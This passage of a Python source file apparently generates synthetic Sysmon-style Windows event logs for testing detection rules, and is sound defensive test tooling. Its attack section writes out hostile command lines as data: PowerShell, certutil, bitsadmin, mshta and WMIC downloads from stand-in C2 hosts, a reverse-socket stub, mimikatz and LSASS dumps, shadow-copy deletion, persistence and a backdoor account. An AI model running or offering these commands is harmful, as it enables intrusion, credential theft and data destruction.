            f"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\",
            user,
            b,
            f'"{exe}" ',
        )

    def _p_user_tools(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        k = r.randrange(7)
        exp = (B["explorer"], "C:\\Windows\\Explorer.EXE")
        if k == 0:
            f = f"C:\\Users\\{user}\\Documents\\notes_{r.randrange(1, 300)}.txt"
            return (
                B["notepad"],
                f'"C:\\Windows\\system32\\NOTEPAD.EXE" {f}',
                f"C:\\Users\\{user}\\",
                user,
                *exp,
            )
        if k == 1:
            msc = r.choice(("compmgmt.msc", "services.msc", "eventvwr.msc", "devmgmt.msc", "dsa.msc"))
            return (
                B["mmc"],
                f'"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\{msc}"',
                "C:\\Windows\\system32\\",
                user,
                *exp,
                None,
                "High",
            )
        if k == 2:
            return (
                B["taskmgr"],
                '"C:\\Windows\\system32\\taskmgr.exe" /4',
                "C:\\Windows\\system32\\",
                user,
                *exp,
                None,
                "High",
            )
        if k == 3:
            return (
                B["mstsc"],
                f'"C:\\Windows\\system32\\mstsc.exe" /v:{r.choice(self.hosts).fqdn}',
                f"C:\\Users\\{user}\\",
                user,
                *exp,
            )
        if k == 4:
            b = B["zoom"]
            return (
                b,
                f'"{self.image_of(b, user)}" "--url=zoommtg://zoom.us/join?action=join&confno='
                f'{r.randrange(10**9, 10**10)}"',
                f"C:\\Users\\{user}\\",
                user,
                B["chrome"],
                f'"{CHROME_DIR}\\chrome.exe"',
            )
        if k == 5:
            b = B["slack"]
            return (
                b,
                f'"{self.image_of(b, user)}" --process-start-args --startup',
                f"C:\\Users\\{user}\\",
                user,
                *exp,
            )
        b = B["7zfm"]
        return (
            b,
            f'"{b.image}" "C:\\Users\\{user}\\Downloads\\{r.choice(REPOS)}-{self.hex(7)}.zip"',
            f"C:\\Users\\{user}\\Downloads\\",
            user,
            *exp,
        )

    def _p_agent(self, host: Host) -> tuple[Any, ...]:
        b = B["agent"]
        args = self.rng.choice(
            (
                "--service",
                "--collect inventory --upload",
                "--check-in --quiet",
                f"--apply-policy {self.guid().lower()}",
            )
        )
        return (
            b,
            f'"{b.image}" {args}',
            "C:\\Program Files\\Contoso\\EndpointAgent\\",
            SYSTEM,
            B["services"],
            "C:\\Windows\\system32\\services.exe",
            SYSTEM,
            "System",
        )

    # ---- network connection (EventID 3) -------------------------------------------------------
    def _network(self, host: Host) -> Event:
        r = self.rng
        ev = self.base(host, 3)
        k = r.random()
        user = self.interactive_user(host)
        if k < 0.3:
            b = r.choice((B["chrome"], B["chrome"], B["msedge"]))
            dst_host, prefix, port = r.choice(WEB_HOSTS)
            proto = "tcp" if r.random() < 0.9 else "udp"  # QUIC
        elif k < 0.45:
            app, (dst_host, prefix, port) = r.choice(APP_HOSTS)
            b = B[app]
            proto = "tcp"
        elif k < 0.65:
            b = r.choice(
                (B["svchost"], B["msmpeng"], B["onedrive"], B["c2r"], B["mousocore"], B["smartscreen"])
            )
            dst_host, prefix, port = r.choice(MS_HOSTS)
            proto = "tcp"
            if b.image.startswith("C:\\Windows") or b is B["msmpeng"]:
                user = r.choice((SYSTEM, NETWORK_SERVICE, LOCAL_SERVICE)) if b is B["svchost"] else SYSTEM
        elif k < 0.8:
            b = r.choice((B["git"], B["git_mingw"], B["python"], B["java"], B["code"], B["node"]))
            dst_host, prefix, port = r.choice(
                (("github.com", "140.82.", 443), ("pypi.org", "151.101.", 443),
                 ("registry.npmjs.org", "104.16.", 443),
                 (f"artifactory.{DNS_SUFFIX}", "10.10.4.", 443), (f"jenkins.{DNS_SUFFIX}", "10.10.4.", 8443))
            )  # fmt: skip
            proto = "tcp"
        else:
            dc = self.hosts[r.randrange(4)]
            fs = self.hosts[4 + r.randrange(26)]
            b, dst, port = r.choice((
                (B["lsass"], dc, 88), (B["lsass"], dc, 389), (B["svchost"], dc, 135), (B["system"], fs, 445),
                (B["system"], dc, 445), (B["svchost"], dc, 53), (B["agent"], fs, 8443),
            ))  # fmt: skip
            dst_host, prefix = dst.fqdn, dst.ip
            user = SYSTEM if b is not B["svchost"] else NETWORK_SERVICE
            proto = "udp" if port == 53 else "tcp"
        dst_ip = self.ip_in(prefix)
        uname = user.split("\\")[-1]
        ev.update(
            {
                "ProcessGuid": self.proc_guid(host),
                "ProcessId": 4 if b is B["system"] else self.pid(),
                "Image": self.image_of(b, uname),
                "User": self.qualify(user),
                "Protocol": proto,
                "Initiated": "true",
                "SourceIsIpv6": "false",
                "SourceIp": host.ip,
                "SourceHostname": host.fqdn,
                "SourcePort": r.randrange(49152, 65536),
                "SourcePortName": "-",
                "DestinationIsIpv6": "false",
                "DestinationIp": dst_ip,
                "DestinationHostname": dst_host,
                "DestinationPort": port,
                "DestinationPortName": {443: "https", 80: "http", 445: "microsoft-ds", 88: "kerberos",
                                        389: "ldap", 135: "epmap", 53: "domain"}.get(port, "-"),
            }
        )  # fmt: skip
        if k >= 0.8 and r.random() < 0.3:  # inbound: swap the two ends, as Sysmon reports the listener side
            ev["Initiated"] = "false"
            ev["SourceIp"], ev["DestinationIp"] = ev["DestinationIp"], host.ip
            ev["SourceHostname"], ev["DestinationHostname"] = ev["DestinationHostname"], host.fqdn
        return ev

    # ---- registry (EventID 12/13/14) -----------------------------------------------------------
    def _registry(self, host: Host) -> Event:
        r = self.rng
        _, etype, tmpl, details_kind, writer = REG_TEMPLATES[self.pick(self.reg_cum)]
        user = self.interactive_user(host)
        b = B[writer]
        exe_rel = r.choice((
            "Windows\\System32\\cmd.exe", "Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "Windows\\explorer.exe", f"Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            "Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Windows\\System32\\notepad.exe",
        ))  # fmt: skip
        target = tmpl
        if "{" in tmpl:
            target = tmpl.format(
                sid=self.sids[user],
                exe_rel=exe_rel,
                ext=r.choice((".docx", ".xlsx", ".pdf", ".txt", "Folder", ".pptx")),
                rot13=r.choice(
                    (
                        "{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\\pzq.rkr",
                        "Zvpebfbsg.Jvaqbjf.Rkcybere",
                        "Puebzr",
                        "{6Q809377-6NS0-444O-8957-N3773S02200R}\\Tvg\\tvg-onfu.rkr",
                    )
                ),
                wu_value=r.choice(("workCompleted", "lastRun", "startTime", "UpdateStatus")),
                hex32=self.hex(32).upper(),
                hex16=self.hex(16).upper(),
                pref=r.choice(
                    (
                        "homepage",
                        "session.restore_on_startup",
                        "default_search_provider_data",
                        "pinned_tabs",
                        "google.services.account_id",
                    )
                ),
                inst_value=r.choice(
                    (
                        "DisplayVersion",
                        "InstallDate",
                        "InstallLocation",
                        "Publisher",
                        "EstimatedSize",
                        "DisplayName",
                    )
                ),
                od_value=r.choice(
                    ("LastSignInTime", "UserFolder", "ClientFirstSignInTimestamp", "Timerautomount")
                ),
                guid=self.guid(),
                dhcp_value=r.choice(
                    ("DhcpIPAddress", "DhcpServer", "Lease", "LeaseObtainedTime", "T1", "T2")
                ),
                adv_value=r.choice(
                    ("TaskbarAl", "ShowTaskViewButton", "HideFileExt", "LaunchTo", "TaskbarMn")
                ),
                agent_value=r.choice(("LastCheckIn", "PolicyVersion", "InventoryHash")),
                n=r.randrange(1, 40),
                kb=r.randrange(5040000, 5049999),
            )
        ev = self.base(host, REG_EVENT_IDS[etype])
        uname = user.split("\\")[-1]
        ev["EventType"] = etype
        ev["ProcessGuid"] = self.proc_guid(host)
        ev["ProcessId"] = self.pid()
        ev["Image"] = self.image_of(b, uname)
        ev["TargetObject"] = target
        if etype == "SetValue":
            if details_kind == "dword":
                ev["Details"] = f"DWORD (0x{r.choice((0, 1, 1, 2, r.getrandbits(32))):08x})"
            elif details_kind == "qword":
                ev["Details"] = f"QWORD (0x{r.getrandbits(32):08x}-0x{r.getrandbits(32):08x})"
            elif details_kind == "binary":
                ev["Details"] = "Binary Data"
            elif details_kind == "hexstr":
                ev["Details"] = self.hex(64).upper()
            elif details_kind == "dhcp":
                ev["Details"] = f"10.{r.randrange(20, 24)}.{r.randrange(0, 256)}.{r.randrange(1, 255)}"
            elif details_kind == "onedrive_run":
                ev["Details"] = (
                    f'"C:\\Users\\{uname}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'
                )
            else:
                ev["Details"] = r.choice((
                    f"C:\\Program Files\\{r.choice(('Contoso', 'Zoom', '7-Zip', 'Notepad++', 'Git'))}\\",
                    f"{r.randrange(2020, 2027)}{r.randrange(1, 13):02d}{r.randrange(1, 29):02d}",
                    f"{r.randrange(1, 30)}.{r.randrange(0, 20)}.{r.randrange(0, 9999)}",
                    r.choice(("Microsoft Corporation", "Google LLC", "Contoso Ltd.", "Igor Pavlov")),
                    f"C:\\Users\\{uname}\\OneDrive - Contoso", f"{self.hex(8)}-{self.hex(4)}",
                ))  # fmt: skip
        elif etype == "RenameKey":
            ev["NewName"] = (
                target.rsplit("\\", 1)[0] + "\\" + r.choice(("Backup", "Archive", "Old", "Settings"))
            )
        ev["User"] = self.qualify(
            SYSTEM if b.image.startswith("C:\\Windows\\") and writer != "explorer" else user
        )
        return ev

    # ---- file create (EventID 11) --------------------------------------------------------------
    def _file(self, host: Host) -> Event:
        r = self.rng
        user = self.interactive_user(host)
        k = r.randrange(12)
        home = f"C:\\Users\\{user}"
        if k <= 2:
            b = B["chrome"]
            target = f"{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\" + r.choice((
                f"Cache\\Cache_Data\\f_{r.randrange(1, 0xFFFFF):06x}", f"Code Cache\\js\\{self.hex(16)}_0",
                f"Service Worker\\CacheStorage\\{self.hex(40)}\\{self.guid().lower()}\\index-dir\\"
                "the-real-index",
                "Network\\Cookies-journal", "History-journal",
            ))  # fmt: skip
        elif k == 3:
            b = B["chrome"]
            target = f"{home}\\Downloads\\" + r.choice((
                f"invoice_{r.randrange(1000, 99999)}.pdf",
                f"Unconfirmed {r.randrange(100000, 999999)}.crdownload",
                f"{r.choice(REPOS)}-main.zip", f"{r.choice(DOC_WORDS)}.xlsx", f"setup_{self.hex(6)}.msi",
            ))  # fmt: skip
        elif k == 4:
            b = r.choice((B["winword"], B["excel"], B["powerpnt"]))
            target = r.choice((
                f"{home}\\AppData\\Roaming\\Microsoft\\Office\\Recent\\{r.choice(DOC_WORDS)}.LNK",
                f"{home}\\AppData\\Local\\Microsoft\\Office\\16.0\\OfficeFileCache\\{self.hex(16)}.fsd",
                f"{home}\\Documents\\~${r.choice(DOC_WORDS)[:6]}.docx",
                f"{home}\\AppData\\Local\\Temp\\{self.guid()}.tmp",
            ))  # fmt: skip
        elif k == 5:
            b = B["svchost"]
            user = SYSTEM
            exe = r.choice(
                (
                    "CHROME.EXE",
                    "MSEDGE.EXE",
                    "GIT.EXE",
                    "CONHOST.EXE",
                    "SVCHOST.EXE",
                    "EXCEL.EXE",
                    "PYTHON.EXE",
                    "BACKGROUNDTASKHOST.EXE",
                    "RUNTIMEBROKER.EXE",
                )
            )
            target = f"C:\\Windows\\Prefetch\\{exe}-{self.hex(8).upper()}.pf"
        elif k == 6:
            b = r.choice((B["tiworker"], B["svchost"], B["trustedinstaller"]))
            user = SYSTEM
            target = r.choice((
                f"C:\\Windows\\SoftwareDistribution\\Download\\{self.hex(32)}\\"
                + r.choice(("express.psf", "update.mum", "ssu.cab")),
                f"C:\\Windows\\WinSxS\\Temp\\InFlight\\{self.hex(16)}\\{self.hex(8)}_"
                + r.choice(("ntdll.dll", "msedge.dll", "win32k.sys")),
                f"C:\\Windows\\Logs\\CBS\\CbsPersist_202611{r.randrange(10, 29)}{self.hex(6)}.log",
                f"C:\\Windows\\servicing\\LCU\\Package_for_RollupFix~31bf3856ad364e35~amd64~~{host.os_version[5:]}.1.7\\"
                f"update.mum",
            ))  # fmt: skip
        elif k == 7:
            b = B["python"]
            repo = r.choice(REPOS)
            target = f"{home}\\source\\repos\\{repo}\\" + r.choice((
                f"src\\{r.choice(('api', 'core', 'utils', 'models'))}\\__pycache__\\"
                f"{r.choice(('views', 'config', 'db', 'tasks'))}.cpython-311.pyc",
                f".pytest_cache\\v\\cache\\{r.choice(('lastfailed', 'nodeids', 'stepwise'))}",
                f"build\\lib\\{repo.replace('-', '_')}\\{self.hex(6)}.py",
            ))  # fmt: skip
        elif k == 8:
            b = B["git"]
            target = f"{home}\\source\\repos\\{r.choice(REPOS)}\\.git\\" + r.choice((
                f"objects\\{self.hex(2)}\\{self.hex(38)}", "FETCH_HEAD", "index.lock", "ORIG_HEAD",
                f"refs\\remotes\\origin\\feature\\{r.choice(('PAY', 'OPS', 'WEB'))}-{r.randrange(100, 9999)}",
            ))  # fmt: skip
        elif k == 9:
            b = r.choice((B["msiexec"], B["explorer"], B["powershell"], B["cmd"]))
            if b is B["powershell"]:  # every PowerShell start probes the execution policy with such a file
                target = f"{home}\\AppData\\Local\\Temp\\__PSScriptPolicyTest_{self.hex(8)}.{self.hex(3)}.ps1"
            else:
                target = r.choice((
                    f"{home}\\AppData\\Local\\Temp\\{self.tmp_name()}",
                    f"C:\\Windows\\Temp\\{self.tmp_name()}",
                    f"{home}\\AppData\\Local\\Temp\\{self.guid()}\\setup.log",
                    f"C:\\Windows\\Installer\\{self.hex(6)}.msi",
                ))  # fmt: skip
        elif k == 10:
            b = B["onedrive"]
            target = f"{home}\\OneDrive - Contoso\\" + r.choice((
                f"Documents\\{r.choice(DOC_WORDS)}.docx", f"Desktop\\{r.choice(DOC_WORDS)}.pdf",
                f"Pictures\\Screenshots\\Screenshot 2026-11-{r.randrange(1, 29):02d} "
                f"{r.randrange(100000, 235959)}.png",
            ))  # fmt: skip
        else:
            b, target = r.choice(
                (
                    (
                        B["teams_classic"],
                        f"{home}\\AppData\\Roaming\\Microsoft\\Teams\\IndexedDB\\"
                        "https_teams.microsoft.com_0.indexeddb.leveldb\\"
                        f"{r.randrange(100000, 999999):06d}.log",
                    ),
                    (
                        B["outlook"],
                        f"{home}\\AppData\\Local\\Microsoft\\Outlook\\RoamCache\\"
                        f"Stream_Autocomplete_{self.hex(32).upper()}.dat",
                    ),
                    (
                        B["code"],
                        f"{home}\\AppData\\Roaming\\Code\\User\\workspaceStorage\\{self.hex(32)}\\"
                        "state.vscdb-journal",
                    ),
                    (
                        B["outlook"],
                        f"{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                        f"{self.hex(8).upper()}\\{r.choice(DOC_WORDS)}.pdf",
                    ),
                )
            )
        ev = self.base(host, 11)
        uname = user.split("\\")[-1]
        ev["ProcessGuid"] = self.proc_guid(host)
        ev["ProcessId"] = self.pid()
        ev["Image"] = self.image_of(b, uname)
        ev["TargetFilename"] = target
        ev["CreationUtcTime"] = (
            ev["UtcTime"]
            if r.random() < 0.8
            else f"2026-{r.randrange(1, 12):02d}-"
            f"{r.randrange(1, 29):02d} {r.randrange(24):02d}:{r.randrange(60):02d}:"
            f"{r.randrange(60):02d}.{r.randrange(1000):03d}"
        )
        ev["User"] = self.qualify(user)
        return ev

    # ---- image load (EventID 7) ----------------------------------------------------------------
    def _imageload(self, host: Host) -> Event:
        r = self.rng
        app = r.choice(("chrome", "chrome", "powershell", "winword", "java", "svchost", "explorer", "msedge",
                        "onedrive", "python", "git", "taskhostw", "dllhost", "runtimebroker"))  # fmt: skip
        b = B[app]
        user = SYSTEM if app in ("svchost", "taskhostw") else self.interactive_user(host)
        own = APP_DLLS.get(app)
        dll = r.choice(own) if own and r.random() < 0.4 else DLLS[r.randrange(len(DLLS))]
        version = self.version(dll, host)
        ev = self.base(host, 7)
        ev.update(
            {
                "ProcessGuid": self.proc_guid(host),
                "ProcessId": self.pid(),
                "Image": self.image_of(b, user.split("\\")[-1]),
                "ImageLoaded": dll.image,
                "FileVersion": version,
                "Description": dll.description,
                "Product": dll.product,
                "Company": dll.company,
                "OriginalFileName": dll.original,
                "Hashes": self.hashes(dll, version),
                "Signed": "true",
                "Signature": dll.signer,
                "SignatureStatus": "Valid",
                "User": self.qualify(user),
            }
        )
        return ev

    # ---- attack-like events --------------------------------------------------------------------
    def _victim(self, host: Host) -> tuple[str, str]:
        user = self.interactive_user(host)
        return user, f"C:\\Users\\{user}"

    def _attack_proc(
        self,
        host: Host,
        b: Binary,
        cmd: str,
        user: str,
        parent: Binary | None = None,
        parent_cmd: str | None = None,
        image: str | None = None,
        hashes: str | None = None,
        integrity: str | None = None,
    ) -> Event:
        if parent is None:
            parent, parent_cmd = self.rng.choice((
                (B["cmd"], "C:\\Windows\\system32\\cmd.exe"), (B["explorer"], "C:\\Windows\\Explorer.EXE"),
                (B["powershell"], f'"{PS_PATH}"'), (B["winword"], f'"{B["winword"].image}" /n'),
            ))  # fmt: skip
        cwd = "C:\\Windows\\system32\\" if user == SYSTEM else f"C:\\Users\\{user}\\"
        return self.proc_event(
            host, b, cmd, cwd, user, parent, parent_cmd or "", None, integrity, image, hashes
        )

    def _c2(self) -> str:
        r = self.rng
        return r.choice(
            (
                f"198.51.100.{r.randrange(2, 250)}",
                f"203.0.113.{r.randrange(2, 250)}",
                f"cdn-{self.hex(6)}.azureedge-sync.net",
                f"update.{self.hex(8)}.top",
            )
        )

    def _a_encoded_ps(self, host: Host) -> Event:
        r = self.rng
        user, _ = self._victim(host)
        script = r.choice((
            f"IEX (New-Object Net.WebClient).DownloadString('http://{self._c2()}/a.ps1')",
            f"$c=New-Object System.Net.Sockets.TCPClient('{self._c2()}',443);$s=$c.GetStream()",
            f"$d=Join-Path $env:TEMP '{self.hex(6)}.exe';(New-Object Net.WebClient).DownloadFile("
            f"'http://{self._c2()}/p.exe',$d);Start-Process $d",
        ))  # fmt: skip
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        flags = r.choice(
            (
                "-nop -w hidden -enc",
                "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand",
                "-noprofile -windowstyle hidden -e",
            )
        )
        return self._attack_proc(
            host,
            B["powershell"],
            f"powershell.exe {flags} {enc}",
            user,
            B["winword"],
            f'"{B["winword"].image}" /n "C:\\Users\\{user}\\Downloads\\'
            f'Invoice_{r.randrange(1000, 9999)}.doc"',
        )

    def _a_certutil(self, host: Host) -> Event:
        user, home = self._victim(host)
        name = self.rng.choice(("svc.exe", "update.exe", "a.dll", "payload.bin"))
        b = _w("certutil.exe", "CertUtil.exe", "CertUtil.exe")
        return self._attack_proc(
            host,
            b,
            f"certutil.exe -urlcache -split -f http://{self._c2()}/{name} "
            f"{home}\\AppData\\Local\\Temp\\{name}",
            user,
        )

    def _a_rundll32_temp(self, host: Host) -> Event:
        user, home = self._victim(host)
        b = _w("rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)")
        r = self.rng
        folder = r.choice((f"{home}\\AppData\\Local\\Temp", f"{home}\\AppData\\Roaming", "C:\\Users\\Public"))
        dll = f"{folder}\\{self.hex(8)}{r.choice(('.dll', '.dat', '.tmp', '.bin'))}"
        entry = r.choice(("DllRegisterServer", "#1", "StartW", "DllInstall"))
        parent, pcmd = r.choice((
            (B["winword"], f'"{B["winword"].image}" /n "{home}\\Downloads\\Invoice_{r.randrange(9999)}.doc"'),
            (B["explorer"], "C:\\Windows\\Explorer.EXE"),
            (B["cmd"], f"C:\\Windows\\system32\\cmd.exe /c start rundll32 {dll},{entry}"),
        ))  # fmt: skip
        cmd = f'"C:\\Windows\\System32\\rundll32.exe" {dll},{entry}'
        return self._attack_proc(host, b, cmd, user, parent, pcmd)

    def _a_mimikatz(self, host: Host) -> Event:
        r = self.rng
        user = SYSTEM if r.random() < 0.5 else self._victim(host)[0]
        image = r.choice(
            ("C:\\Users\\Public\\mimikatz.exe", "C:\\ProgramData\\m64.exe", "C:\\Windows\\Temp\\mk.exe")
        )
        b = Binary(
            image,
            "mimikatz.exe",
            "mimikatz for Windows",
            "mimikatz",
            "gentilkiwi (Benjamin DELPY)",
            ("2.2.0.0",),
            "-",
        )
        cmd = r.choice((
            f'{image} "privilege::debug" "sekurlsa::logonpasswords" exit',
            f'{image} "privilege::debug" "lsadump::sam" "token::elevate" exit',
            f'{image} "sekurlsa::pth /user:Administrator /domain:{DOMAIN} /ntlm:{self.hex(32)}" exit',
        ))  # fmt: skip
        return self._attack_proc(host, b, cmd, user, hashes=self.random_hashes(), integrity="High")

    def _a_vssadmin(self, host: Host) -> Event:
        if self.rng.random() < 0.7:
            b = _w(
                "vssadmin.exe",
                "VSSADMIN.EXE",
                "Command Line Interface for Microsoft\u00ae Volume Shadow Copy Service ",
            )
            cmd = "vssadmin.exe delete shadows /all /quiet"
        else:
            b = _w("wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility")
            cmd = "wmic.exe shadowcopy delete /nointeractive"
        return self._attack_proc(host, b, cmd, SYSTEM, integrity="System")

    def _a_run_key(self, host: Host) -> Event:
        user, home = self._victim(host)
        name = self.rng.choice(("Updater", "OneDriveSync", "SecurityHealth", "AdobeUpdate"))
        payload = f"{home}\\AppData\\Roaming\\{self.hex(6)}\\{name.lower()}.exe"
        if self.rng.random() < 0.5:
            b = _w("reg.exe", "reg.exe", "Registry Console Tool")
            return self._attack_proc(
                host,
                b,
                f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
                f'/v {name} /t REG_SZ /d "{payload}" /f',
                user,
            )
        ev = self.base(host, 13)
        ev.update({
            "EventType": "SetValue", "ProcessGuid": self.proc_guid(host), "ProcessId": self.pid(),
            "Image": "C:\\Windows\\system32\\reg.exe",
            "TargetObject": f"HKU\\{self.sids[user]}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
            f"\\{name}",
            "Details": payload, "User": self.qualify(user),
        })  # fmt: skip
        return ev

    def _a_schtasks(self, host: Host) -> Event:
        r = self.rng
        user, _ = self._victim(host)
        b = _w("schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool")
        task = r.choice(
            ("MicrosoftEdgeUpdateTaskMachineCore1", "GoogleUpdateTaskUser", "WindowsDefenderScan")
        )
        payload = r.choice(
            (
                "C:\\Users\\Public\\update.exe",
                f"C:\\ProgramData\\{self.hex(6)}\\svc.exe",
                "powershell.exe -w hidden -nop -c iex(irm http://" + self._c2() + "/s)",
            )
        )
        every = r.choice((1, 5, 15))
        cmd = f'schtasks.exe /create /tn "{task}" /tr "{payload}" /sc minute /mo {every} /ru SYSTEM /f'
        return self._attack_proc(host, b, cmd, user, integrity="High")

    def _a_whoami(self, host: Host) -> Event:
        user = self.rng.choice((SYSTEM, self._victim(host)[0], "IIS APPPOOL\\DefaultAppPool"))
        b = _w("whoami.exe", "whoami.exe", "whoami - displays logged on user information")
        parent, pcmd = self.rng.choice(
            (
                (B["cmd"], "cmd.exe /c whoami /all"),
                (B["w3wp"], 'w3wp.exe -ap "Portal"'),
                (B["powershell"], "powershell.exe"),
            )
        )
        return self._attack_proc(
            host, b, f"whoami.exe {self.rng.choice(('/all', '/priv', '/groups'))}", user, parent, pcmd
        )

    def _a_net_user_add(self, host: Host) -> Event:
        r = self.rng
        b = _w("net.exe", "net.exe", "Net Command")
        acct = r.choice(("support_adm", "backup$", "svc_update", "helpdesk2"))
        cmd = r.choice(
            (
                f"net.exe user {acct} P@ssw0rd{r.randrange(10, 99)}! /add",
                f"net user {acct} /add /domain",
                f"net.exe localgroup administrators {acct} /add",
            )
        )
        return self._attack_proc(host, b, cmd, SYSTEM, integrity="System")

    def _a_bitsadmin(self, host: Host) -> Event:
        user, home = self._victim(host)
        b = _w("bitsadmin.exe", "bitsadmin.exe", "BITS administration utility")
        cmd = (
            f"bitsadmin.exe /transfer job{self.hex(4)} /download /priority high http://{self._c2()}/a.exe "
            f"{home}\\AppData\\Local\\Temp\\a.exe"
        )
        return self._attack_proc(host, b, cmd, user)

    def _a_mshta(self, host: Host) -> Event:
        user, _ = self._victim(host)
        b = _w("mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host")
        return self._attack_proc(
            host,
            b,
            f"mshta.exe http://{self._c2()}/{self.hex(6)}.hta",
            user,
            B["outlook"],
            f'"{B["outlook"].image}"',
        )

    def _a_wmic_create(self, host: Host) -> Event:
        b = _w("wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility")
        target = self.rng.choice(self.hosts)
        cmd = (
            f'wmic.exe /node:{target.ip} process call create "cmd.exe /c powershell -nop -w hidden -c '
            f'iex(iwr http://{self._c2()}/r.ps1)"'
        )
        return self._attack_proc(host, b, cmd, self._victim(host)[0], integrity="High")

    def _a_procdump_lsass(self, host: Host) -> Event:
        image = self.rng.choice(("C:\\Users\\Public\\procdump64.exe", "C:\\Windows\\Temp\\pd.exe"))
        b = Binary(
            image,
            "procdump",
            "Sysinternals process dump utility",
            "ProcDump",
            "Sysinternals - www.sysinternals.com",
            ("11.0",),
            "Microsoft Corporation",
        )
        cmd = f"{image} -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_{self.hex(4)}.dmp"
        return self._attack_proc(host, b, cmd, SYSTEM, integrity="System")

    def _a_comsvcs_minidump(self, host: Host) -> Event:
        b = _w("rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)")
        cmd = (
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {self.rng.randrange(500, 1200)} "
            f"C:\\Windows\\Temp\\{self.hex(6)}.dmp full"
        )
        return self._attack_proc(host, b, cmd, SYSTEM, integrity="System")

    def _a_regsvr32_sct(self, host: Host) -> Event:
        user, _ = self._victim(host)
        b = _w("regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server")
        return self._attack_proc(
            host, b, f"regsvr32.exe /s /n /u /i:http://{self._c2()}/{self.hex(5)}.sct scrobj.dll", user
        )

    def _a_lolbin_network(self, host: Host) -> Event:
        r = self.rng
        user, _ = self._victim(host)
        ev = self.base(host, 3)
        ev.update({
            "ProcessGuid": self.proc_guid(host), "ProcessId": self.pid(),
            "Image": r.choice(("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\regsvr32.exe",
                               "C:\\Windows\\System32\\mshta.exe", "C:\\Windows\\System32\\certutil.exe")),
            "User": self.qualify(user), "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
            "SourceIp": host.ip, "SourceHostname": host.fqdn, "SourcePort": r.randrange(49152, 65536),
            "SourcePortName": "-", "DestinationIsIpv6": "false",
            "DestinationIp": f"{r.choice(('198.51.100', '203.0.113', '185.220.101'))}.{r.randrange(2, 250)}",
            "DestinationHostname": "-", "DestinationPort": r.choice((443, 4444, 8080, 8443, 80)),
            "DestinationPortName": "-",
        })  # fmt: skip
        return ev

    def _a_dump_file(self, host: Host) -> Event:
        ev = self.base(host, 11)
        ev.update({
            "ProcessGuid": self.proc_guid(host), "ProcessId": self.pid(),
            "Image": self.rng.choice(("C:\\Users\\Public\\procdump64.exe", SYS32 + "\\rundll32.exe")),
            "TargetFilename": f"C:\\Windows\\Temp\\lsass_{self.hex(4)}.dmp", "CreationUtcTime": ev["UtcTime"],
            "User": SYSTEM,
        })  # fmt: skip
        return ev

    # ---- driver -------------------------------------------------------------------------------
    def event(self, attack_ratio: float) -> Event:
        host = self.hosts[self.pick(self.host_cum)]
        if attack_ratio > 0 and self.rng.random() < attack_ratio:
            return self.attacks[self.rng.randrange(len(self.attacks))](host)
        return self.type_builders[self.pick(self.type_cum)](host)


def generate(n: int, seed: int = 1, attack_ratio: float = 0.002) -> Iterator[Event]:
    """Yield ``n`` Sysmon-shaped events; identical (n, seed, attack_ratio) give identical events."""
    if n < 0:
        raise ValueError("n must be >= 0")
    if not 0.0 <= attack_ratio <= 1.0:
        raise ValueError("attack_ratio must be within [0, 1]")
    fleet = _Fleet(seed)
    for _ in range(n):
        yield fleet.event(attack_ratio)


def process_creation(n: int, seed: int = 1, attack_ratio: float = 0.002) -> Iterator[Event]:
    """The first ``n`` process-creation events (EventID 1) of ``generate``'s stream: the events the
    1,183 rules of SigmaHQ's ``rules/windows/process_creation`` are written for."""
    fleet_events = generate(sys.maxsize, seed, attack_ratio)
    yield from islice((e for e in fleet_events if e["EventID"] == 1), n)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description="Write N deterministic Sysmon-shaped events as NDJSON to stdout."
    )
    parser.add_argument("n", type=int, help="number of events")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument(
        "--attack-ratio", type=float, default=0.002, help="share of attack-like events (0..1)"
    )
    parser.add_argument(
        "--process-creation", action="store_true", help="only process-creation events (EventID 1)"
    )
    args = parser.parse_args(argv)
    out = sys.stdout.buffer
    batch: list[bytes] = []
    stream = process_creation if args.process_creation else generate
    for ev in stream(args.n, args.seed, args.attack_ratio):
        batch.append(_dumps(ev))
        if len(batch) >= 2048:
            out.write(b"\n".join(batch) + b"\n")
            batch.clear()
    if batch:
        out.write(b"\n".join(batch) + b"\n")
    out.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
